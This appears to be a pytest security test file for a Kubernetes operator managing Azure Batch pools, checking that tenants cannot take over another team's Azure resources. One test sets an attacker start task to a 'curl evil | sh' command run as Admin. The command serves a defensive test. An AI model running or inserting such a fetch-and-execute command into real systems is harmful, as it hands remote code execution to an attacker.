"""A tenant tries to make the operator take over Azure resources it never created.

Each test is the attacker's steps, end to end: real Kubernetes and Azure clients against
kubesim and azuresim, the operator in-process. Each failed on the build before owner
marks existed (the audit's findings); the comments say what that build did.
"""

from __future__ import annotations

import copy
from pathlib import Path

from kubernetes import client as k8s

from helpers.system import (
    SUB,
    WRITES,
    CRs,
    StartOperator,
    azure_admin,
    azure_requests,
    azure_sdk,
    condition,
    has_condition,
    kube_api,
    running_operator,
)
from helpers.system import example_by_kind as example
from simlaunch import Emulator


def writes_to(azuresim: Emulator, fragment: str) -> list[dict]:
    return [e for e in azure_requests(azuresim.admin_url, azuresim.ca_bundle)
            if e["method"] in WRITES and fragment in e["path"]]


def other_teams_pool(batch, image_id: str, name: str = "payroll",
                     vm_size: str = "STANDARD_D2S_V3", slots: int = 1) -> None:
    """A pool another team made by hand (Azure portal, Terraform): no owner mark."""
    batch.pool.create("rg-batch", "batchdemo", name, {"properties": {
        "vmSize": vm_size, "taskSlotsPerNode": slots,
        "deploymentConfiguration": {"virtualMachineConfiguration": {
            "imageReference": {"id": image_id}, "nodeAgentSkuId": "batch.node.ubuntu 22.04"}},
        "scaleSettings": {"fixedScale": {"targetDedicatedNodes": 1}},
        "metadata": [{"name": "team", "value": "payroll"}]}})


def namespaced(kubesim: Emulator, name: str) -> CRs:
    api = kube_api(kubesim.kubeconfig)
    k8s.CoreV1Api(api).create_namespace({"metadata": {"name": name}})
    return CRs(api, name)


def test_a_pool_naming_someone_elses_azure_pool_is_not_adopted(
        tmp_path: Path, start_operator: StartOperator, azuresim: Emulator, crs: CRs) -> None:
    docs = example()
    allow = tmp_path / "allow.yaml"
    allow.write_text(f'"*": ["/subscriptions/{SUB}"]\n')
    _, batch = azure_sdk(azuresim.env)
    with start_operator(BIO_ALLOWLIST_FILE=str(allow)):
        crs.create(docs["ManagedImage"])
        image = crs.wait("managedimages", "ubuntu-hpc", has_condition("Ready"))
        other_teams_pool(batch, image["status"]["imageId"])
        azure_requests(azuresim.admin_url, azuresim.ca_bundle, reset=True)
        # The attacker: a BatchPool whose poolId is the other team's pool, with a start
        # task run as Admin and a new scale.
        attack = docs["BatchPool"]
        attack["metadata"]["name"] = "takeover"
        attack["spec"]["poolId"] = "payroll"
        attack["spec"]["startTask"] = {"commandLine": "/bin/sh -c 'curl evil | sh'",
                                       "elevationLevel": "Admin"}
        crs.create(attack)
        refused = crs.wait("batchpools", "takeover",
                           has_condition("Ready", "False", "ExistsNotOwned"))
        assert "batchimage.dev/adopt" in condition(refused, "Ready")["message"]
        assert crs.wait_event("takeover", "ExistsNotOwned")["type"] == "Warning"
        # Nothing of the other team's pool is mirrored into the attacker's status.
        assert "currentDedicatedNodes" not in refused["status"]
        # Deleting the BatchPool leaves the other team's pool alone.
        crs.delete("batchpools", "takeover")
        crs.wait_deleted("batchpools", "takeover")
    # Before owner marks: PATCH of scale, start task (Admin) and metadata, then DELETE.
    assert writes_to(azuresim, "/pools/payroll") == []
    pool = batch.pool.get("rg-batch", "batchdemo", "payroll")
    assert pool.start_task is None and pool.scale_settings.fixed_scale.target_dedicated_nodes == 1


def test_adoption_is_explicit_and_stamps_the_mark(kubesim: Emulator, azuresim: Emulator,
                                                   crs: CRs) -> None:
    docs = example()
    _, batch = azure_sdk(azuresim.env)
    with running_operator(kubesim.url, azuresim.env):
        crs.create(docs["ManagedImage"])
        image = crs.wait("managedimages", "ubuntu-hpc", has_condition("Ready"))
        # A pool made by hand exactly as the spec describes it (e.g. before the operator).
        other_teams_pool(batch, image["status"]["imageId"], name="render-pool",
                         vm_size="STANDARD_D4S_V3", slots=2)
        crs.create(docs["BatchPool"])
        crs.wait("batchpools", "render-pool", has_condition("Ready", "False", "ExistsNotOwned"))
        crs.patch("batchpools", "render-pool",
                  {"metadata": {"annotations": {"batchimage.dev/adopt": "true"}}})
        crs.wait("batchpools", "render-pool", has_condition("Ready"))
        assert crs.wait_event("render-pool", "Adopting")["type"] == "Normal"
        metadata = {m.name: m.value for m in
                    batch.pool.get("rg-batch", "batchdemo", "render-pool").metadata}
        uid = crs.get("batchpools", "render-pool")["metadata"]["uid"]
        assert metadata["batchimage.dev-uid"] == uid
        assert metadata["batchimage.dev-namespace"] == "default"
        # Once stamped, the annotation is no longer needed.
        crs.patch("batchpools", "render-pool",
                  {"metadata": {"annotations": {"batchimage.dev/adopt": None}},
                   "spec": {"scale": {"fixed": {"targetDedicatedNodes": 2}}}})
        crs.wait("batchpools", "render-pool",
                 lambda o: has_condition("Ready")(o)
                 and o["status"].get("currentDedicatedNodes") == 2)


def test_an_image_naming_someone_elses_azure_image_is_not_rewritten_or_deleted(
        start_operator: StartOperator, azuresim: Emulator, crs: CRs) -> None:
    docs = example()
    compute, _ = azure_sdk(azuresim.env)
    snapshot = docs["ManagedImage"]["spec"]["source"]["snapshots"]["osDisk"]["snapshotId"]
    compute.images.begin_create_or_update("rg-batch-images", "ubuntu-hpc", {
        "location": "westeurope", "tags": {"owner": "payroll"}, "properties": {
            "storageProfile": {"osDisk": {"osType": "Linux", "osState": "Generalized",
                                          "snapshot": {"id": snapshot}}}}}).result()
    azure_requests(azuresim.admin_url, azuresim.ca_bundle, reset=True)
    with start_operator():
        docs["ManagedImage"]["spec"]["tags"] = {"owner": "attacker"}
        crs.create(docs["ManagedImage"])
        crs.wait("managedimages", "ubuntu-hpc", has_condition("Ready", "False", "ExistsNotOwned"))
        crs.delete("managedimages", "ubuntu-hpc")
        crs.wait_deleted("managedimages", "ubuntu-hpc")
    # Before owner marks: a PUT rewrote the tags, then the image was deleted.
    assert writes_to(azuresim, "/images/") == []
    assert compute.images.get("rg-batch-images", "ubuntu-hpc").tags == {"owner": "payroll"}


def test_two_namespaces_naming_one_pool_do_not_fight(kubesim: Emulator, azuresim: Emulator,
                                                     crs: CRs) -> None:
    docs = example()
    _, batch = azure_sdk(azuresim.env)
    rival = namespaced(kubesim, "team-b")
    with running_operator(kubesim.url, azuresim.env):
        crs.create(docs["ManagedImage"])
        crs.create(docs["BatchPool"])
        crs.wait("batchpools", "render-pool", has_condition("Ready"))
        image = crs.get("managedimages", "ubuntu-hpc")
        azure_requests(azuresim.admin_url, azuresim.ca_bundle, reset=True)
        # Team B names the same Azure pool, by image id, with another size.
        theirs = copy.deepcopy(docs["BatchPool"])
        theirs["metadata"] = {"name": "render-pool"}
        theirs["spec"]["image"] = {"id": image["status"]["imageId"]}
        theirs["spec"]["scale"]["fixed"]["targetDedicatedNodes"] = 1
        rival.create(theirs)
        refused = rival.wait("batchpools", "render-pool",
                             has_condition("Ready", "False", "OwnedByAnother"))
        message = condition(refused, "Ready")["message"]
        assert "another namespace" in message and "default" not in message
        rival.delete("batchpools", "render-pool")
        rival.wait_deleted("batchpools", "render-pool")
        # Before owner marks: 10 resizes in 15 s, then DELETE under team A's BatchPool.
        assert writes_to(azuresim, "/pools/render-pool") == []
        assert batch.pool.get("rg-batch", "batchdemo", "render-pool").current_dedicated_nodes == 4
        assert condition(crs.get("batchpools", "render-pool"), "Ready")["status"] == "True"


def test_another_namespace_cannot_resume_a_resize_its_owner_stopped(
        kubesim: Emulator, azuresim: Emulator, crs: CRs) -> None:
    """The resize-again annotation is a write trigger a tenant controls: aimed at a pool
    another namespace owns (whose resize its owner stopped on purpose), it must reach
    nothing, like every other path, because the ownership check comes first."""
    docs = example()
    docs["BatchPool"]["spec"]["scale"]["fixed"]["targetDedicatedNodes"] = 12
    _, batch = azure_sdk(azuresim.env)
    rival = namespaced(kubesim, "team-b")
    with running_operator(kubesim.url, azuresim.env, BIO_DRIFT_INTERVAL="0.3"):
        crs.create(docs["ManagedImage"])
        crs.wait("managedimages", "ubuntu-hpc", has_condition("Ready"))
        azure_admin(azuresim, "POST", "/speed", {"allocationSeconds": 60})
        crs.create(docs["BatchPool"])
        crs.wait("batchpools", "render-pool", lambda o: (o.get("status") or {}).get(
            "allocationState") == "Resizing")
        batch.pool.stop_resize("rg-batch", "batchdemo", "render-pool")  # team A, on purpose
        azure_admin(azuresim, "POST", "/speed", {"allocationSeconds": 0.5})
        stopped = crs.wait("batchpools", "render-pool",
                           has_condition("Ready", "False", "ResizeStopped"))
        left_at = stopped["status"]["currentDedicatedNodes"]
        image = crs.get("managedimages", "ubuntu-hpc")
        azure_requests(azuresim.admin_url, azuresim.ca_bundle, reset=True)
        # Team B: the same spec, by image id, asking for the resize to resume.
        theirs = copy.deepcopy(docs["BatchPool"])
        theirs["metadata"] = {"name": "render-pool", "annotations": {
            "batchimage.dev/resize-again": "now"}}
        theirs["spec"]["image"] = {"id": image["status"]["imageId"]}
        rival.create(theirs)
        rival.wait("batchpools", "render-pool",
                   has_condition("Ready", "False", "OwnedByAnother"))
        rival.patch("batchpools", "render-pool", {"metadata": {"annotations": {
            "batchimage.dev/resize-again": "again"}}})
        rival.wait("batchpools", "render-pool",
                   has_condition("Ready", "False", "OwnedByAnother"))
        assert writes_to(azuresim, "/pools/render-pool") == []
        assert batch.pool.get("rg-batch", "batchdemo",
                              "render-pool").current_dedicated_nodes == left_at
        assert condition(crs.get("batchpools", "render-pool"), "Ready")["reason"] == \
            "ResizeStopped"


def test_a_recreated_object_does_not_take_over_its_predecessors_pool(
        kubesim: Emulator, azuresim: Emulator, crs: CRs) -> None:
    docs = example()
    docs["BatchPool"]["spec"]["deletionPolicy"] = "Retain"
    _, batch = azure_sdk(azuresim.env)
    with running_operator(kubesim.url, azuresim.env):
        crs.create(docs["ManagedImage"])
        crs.create(docs["BatchPool"])
        crs.wait("batchpools", "render-pool", has_condition("Ready"))
        crs.delete("batchpools", "render-pool")
        crs.wait_deleted("batchpools", "render-pool")
        again = copy.deepcopy(docs["BatchPool"])
        again["spec"]["scale"]["fixed"]["targetDedicatedNodes"] = 1
        crs.create(again)
        refused = crs.wait("batchpools", "render-pool",
                           has_condition("Ready", "False", "OwnedByAnother"))
        assert "earlier BatchPool" in condition(refused, "Ready")["message"]
        assert batch.pool.get("rg-batch", "batchdemo", "render-pool").current_dedicated_nodes == 4


def test_a_restart_with_lost_status_finds_its_own_resources(
        kubesim: Emulator, azuresim: Emulator, crs: CRs) -> None:
    docs = example()
    with running_operator(kubesim.url, azuresim.env):
        crs.create(docs["ManagedImage"])
        crs.create(docs["BatchPool"])
        crs.wait("batchpools", "render-pool", has_condition("Ready"))
    api = crs.api
    for plural, name in (("batchpools", "render-pool"), ("managedimages", "ubuntu-hpc")):
        api.patch_namespaced_custom_object_status("batchimage.dev", "v1alpha1", "default",
                                                  plural, name, {"status": None})
    azure_requests(azuresim.admin_url, azuresim.ca_bundle, reset=True)
    with running_operator(kubesim.url, azuresim.env):
        crs.wait("batchpools", "render-pool", has_condition("Ready"))
        crs.wait("managedimages", "ubuntu-hpc", has_condition("Ready"))
    assert [e for e in azure_requests(azuresim.admin_url, azuresim.ca_bundle)
            if e["method"] in WRITES and "/subscriptions/" in e["path"]] == []
